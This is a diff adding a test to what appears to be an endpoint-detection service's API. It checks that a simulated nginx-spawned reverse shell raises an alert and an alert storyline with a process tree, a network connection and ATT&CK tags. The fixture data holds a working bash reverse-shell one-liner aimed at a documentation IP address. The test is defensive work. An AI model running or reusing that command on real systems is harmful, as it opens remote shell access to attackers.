@@ -168,3 +168,25 @@ test('process tree: ancestors, descendants and what each process did, across pid
   assert.ok(sh.end, 'the exit event closes the node');
   assert.equal((await api.get(`/api/v1/hosts/${hostA.agentId}/process-tree?entity_id=nope`)).status, 404);
 });
+
+test('alert storyline: the alert events, the acting process tree, their activity and the ATT&CK tags', async () => {
+  const base = { 'process.parent.pid': 1 };
+  const shell = event(hostB.agentId, 'process', 'start', { ...base, 'process.pid': 900, 'process.entity_id': 'S-web', 'process.executable': '/usr/sbin/nginx', 'process.name': 'nginx', 'process.command_line': 'nginx: worker process' }, 500);
+  const reverse = event(hostB.agentId, 'process', 'start', {
+    ...base, 'process.pid': 901, 'process.entity_id': 'S-rev', 'process.parent.entity_id': 'S-web', 'process.parent.executable': '/usr/sbin/nginx',
+    'process.executable': '/usr/bin/bash', 'process.name': 'bash', 'process.command_line': 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'process.args': ['bash', '-i'],
+  }, 501);
+  const connect = event(hostB.agentId, 'network', 'connect', { 'process.pid': 901, 'process.entity_id': 'S-rev', 'destination.ip': '198.51.100.7', 'destination.port': 4444 }, 502);
+  await post(hostB, [shell, reverse, connect]);
+  const alert = await waitFor('the reverse shell alert', async () => {
+    const alerts = (await api.get(`/api/v1/alerts?host_id=${hostB.agentId}`)).body as { id: string; eventIds: string[] }[];
+    return alerts.find((a) => a.eventIds.includes(String(reverse['event.id'])));
+  });
+  const story = await api.get(`/api/v1/alerts/${alert.id}/storyline?window_s=600`);
+  assert.equal(story.status, 200, JSON.stringify(story.body));
+  assert.deepEqual(story.body.alertEvents.map((e: Record<string, unknown>) => e['event.id']), [reverse['event.id']]);
+  assert.equal(story.body.tree.rootEntityId, 'S-rev');
+  assert.deepEqual(story.body.tree.ancestors.map((n: { entityId: string }) => n.entityId), ['S-web']);
+  assert.ok(story.body.events.some((e: Record<string, unknown>) => e['event.id'] === connect['event.id']), 'the connection of the acting process is in the storyline');
+  assert.ok(story.body.tags.some((tag: string) => tag.startsWith('attack.')), JSON.stringify(story.body.tags));
+});
